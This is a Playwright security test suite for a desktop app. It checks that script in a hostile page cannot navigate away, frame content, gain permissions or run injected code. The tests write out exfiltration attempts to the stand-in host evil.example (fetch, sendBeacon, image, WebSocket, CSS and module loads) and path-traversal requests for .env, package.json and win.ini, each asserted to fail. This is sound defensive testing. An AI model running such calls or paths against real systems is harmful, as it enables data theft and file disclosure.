import { expect, type Page, test } from '@playwright/test';
import { type App, Machine } from './runApp.ts';

/** What script could try once it runs in the window: each attempt must fail, and the window must stay where it is. */
test.describe('a page that turned hostile', () => {
  const machine = new Machine();
  let app: App;
  let page: Page;

  test.beforeAll(async () => {
    app = await machine.start();
    page = await app.page();
  });

  test.afterAll(() => machine.remove());

  test.afterEach(async () => {
    const window = await app.ask('window');
    expect(new URL(window?.address ?? '').protocol).toBe('musubi:');
    expect((await app.ask('records')).networkRequests).toEqual([]);
  });

  for (const address of [
    'https://evil.example/',
    'http://evil.example/',
    'http://other.musubi.localhost/',
    'http://app.musubi.localhost.evil.example/',
  ]) {
    test(`cannot take the window to ${address}`, async () => {
      await page.evaluate((target) => {
        location.href = target;
      }, address);
      await expect
        .poll(async () => (await app.ask('records')).preventedNavigations.length)
        .toBeGreaterThan(0);
    });
  }

  test('cannot leave through a clicked link or a meta refresh', async () => {
    const prevented = async () => (await app.ask('records')).preventedNavigations;
    await page.evaluate(() => {
      const link = document.createElement('a');
      link.href = 'https://evil.example/link';
      document.body.append(link);
      link.click();
    });
    await expect.poll(prevented).toContain('https://evil.example/link');
    await page.evaluate(() => {
      const refresh = document.createElement('meta');
      refresh.httpEquiv = 'refresh';
      refresh.content = '0;url=https://evil.example/refresh';
      document.head.append(refresh);
    });
    await expect.poll(prevented).toContain('https://evil.example/refresh');
  });

  test('cannot leave through a form: the policy stops it before it becomes a request', async () => {
    const directive = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
            once: true,
          });
          const form = document.createElement('form');
          form.action = 'https://evil.example/form';
          form.method = 'post';
          document.body.append(form);
          form.submit();
        }),
    );
    expect(directive).toBe('form-action');
    expect((await app.ask('records')).preventedNavigations).not.toContain('https://evil.example/form');
  });

  test('cannot open windows; only a checked link goes to the system browser', async () => {
    const hostile = [
      'https://user:secret@evil.example/',
      'http://evil.example/',
      'https://127.0.0.1/',
      'about:blank',
    ];
    for (const address of [...hostile, 'https://asean.org/']) {
      expect(await page.evaluate((url) => window.open(url) === null, address)).toBeDefined();
    }
    await expect
      .poll(async () => (await app.ask('records')).deniedWindows)
      .toEqual(expect.arrayContaining(['https://asean.org/', 'http://evil.example/']));
    expect((await app.ask('records')).openedExternally).toEqual(['https://asean.org/']);
    await expect
      .poll(() =>
        page
          .context()
          .pages()
          .filter((other) => other !== page && other.url() !== 'about:blank'),
      )
      .toEqual([]);
  });

  test('cannot put pages into frames', async () => {
    const framed = await page.evaluate(async () => {
      const results: string[] = [];
      for (const source of ['https://evil.example/', '/index.html', 'data:text/html,x', 'blob']) {
        const frame = document.createElement('iframe');
        const blob = new Blob(['<script>parent.broken = true</script>'], { type: 'text/html' });
        frame.src = source === 'blob' ? URL.createObjectURL(blob) : source;
        document.body.append(frame);
        await new Promise((resolve) => setTimeout(resolve, 100));
        let text = '';
        try {
          text = frame.contentDocument?.body?.textContent ?? '';
        } catch {
          // A refused frame shows the browser's own error page, which is of another origin.
        }
        results.push(text);
        frame.remove();
      }
      return { results, isBroken: 'broken' in window };
    });
    expect(framed).toEqual({ results: ['', '', '', ''], isBroken: false });
  });

  test('cannot send anything out: fetch, beacon, picture, socket, style, font, worker, module', async () => {
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => {
        violations.push(event.effectiveDirective);
      });
      const fetched = await fetch('https://evil.example/?data').then(
        () => 'sent',
        () => 'refused',
      );
      navigator.sendBeacon('https://evil.example/beacon', 'data');
      const picture = await new Promise<string>((resolve) => {
        const image = new Image();
        image.onload = () => resolve('loaded');
        image.onerror = () => resolve('refused');
        image.src = 'https://evil.example/pixel.png?data';
      });
      let socket = 'refused';
      try {
        await new Promise<void>((resolve, reject) => {
          const line = new WebSocket('wss://evil.example/');
          line.onopen = () => resolve();
          line.onerror = () => reject(new Error('refused'));
        });
        socket = 'open';
      } catch {
        socket = 'refused';
      }
      const style = document.createElement('style');
      style.textContent =
        "@import url('https://evil.example/x.css'); body { background: url(https://evil.example/x.png) }";
      document.head.append(style);
      const module = await import(/* @vite-ignore */ String('https://evil.example/x.js')).then(
        () => 'loaded',
        () => 'refused',
      );
      let worker = 'refused';
      try {
        const source = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
        worker = await new Promise<string>((resolve) => {
          const started = new Worker(source);
          started.onmessage = () => resolve('ran');
          started.onerror = () => resolve('refused');
        });
      } catch {
        worker = 'refused';
      }
      await new Promise((resolve) => setTimeout(resolve, 200));
      style.remove();
      return { fetched, picture, socket, module, worker, violations };
    });
    expect(outcome).toMatchObject({
      fetched: 'refused',
      picture: 'refused',
      socket: 'refused',
      module: 'refused',
      worker: 'refused',
    });
    expect(outcome.violations).toEqual(
      expect.arrayContaining(['connect-src', 'img-src', 'script-src-elem', 'style-src-elem', 'worker-src']),
    );
  });

  test('cannot run text as script: eval, inline scripts, handlers', async () => {
    const ran = await page.evaluate(async () => {
      const world = window as unknown as { ranInline?: boolean; ranHandler?: boolean; ranText?: boolean };
      const script = document.createElement('script');
      script.textContent = 'window.ranInline = true';
      document.body.append(script);
      const holder = document.createElement('div');
      holder.innerHTML = '<img src="data:," onerror="window.ranHandler = true">';
      document.body.append(holder);
      // Text for a timer is compiled like eval, in a task of the page's own, which no debugger exempts.
      setTimeout('window.ranText = true', 0);
      await new Promise((resolve) => setTimeout(resolve, 200));
      return [world.ranInline, world.ranHandler, world.ranText];
    });
    expect(ran).toEqual([undefined, undefined, undefined]);
  });

  test('gets no permission but copying', async () => {
    const { permissions } = await app.ask('records');
    expect(Object.entries(permissions).filter(([, granted]) => granted)).toEqual([
      ['clipboard-sanitized-write', true],
    ]);
    const states = await page.evaluate(async () => {
      const names = ['geolocation', 'notifications', 'camera', 'microphone', 'midi', 'clipboard-read'];
      const found = await Promise.all(
        names.map(
          async (name) => (await navigator.permissions.query({ name: name as PermissionName })).state,
        ),
      );
      return found;
    });
    expect(new Set(states)).toEqual(new Set(['denied']));
    const located = await page.evaluate(
      () =>
        new Promise((resolve) => {
          navigator.geolocation.getCurrentPosition(
            () => resolve('found'),
            () => resolve('refused'),
          );
        }),
    );
    expect(located).toBe('refused');
  });

  test('reads no file outside the built window', async () => {
    const statuses = await page.evaluate(async () => {
      const paths = [
        '/%2e%2e%2fpackage.json',
        '/..%5cpackage.json',
        '/%252e%252e/package.json',
        '/assets/%00.js',
      ];
      const others = ['/con.js', '/.env', '/registry.db', '/C:/Windows/win.ini', '/missing.js'];
      return await Promise.all([...paths, ...others].map(async (path) => (await fetch(path)).status));
    });
    for (const status of statuses) {
      expect([400, 403, 404]).toContain(status);
    }
  });

  test('has the strict policy on every answer of the scheme', async () => {
    const headers = await page.evaluate(async () => {
      const answers = await Promise.all([fetch('/'), fetch('/missing.js')]);
      return answers.map((answer) => [
        answer.headers.get('content-security-policy'),
        answer.headers.get('x-content-type-options'),
      ]);
    });
    for (const [policy, sniffing] of headers) {
      expect(policy).toContain("default-src 'none'");
      expect(policy).not.toContain('mapbox');
      expect(sniffing).toBe('nosniff');
    }
  });
});
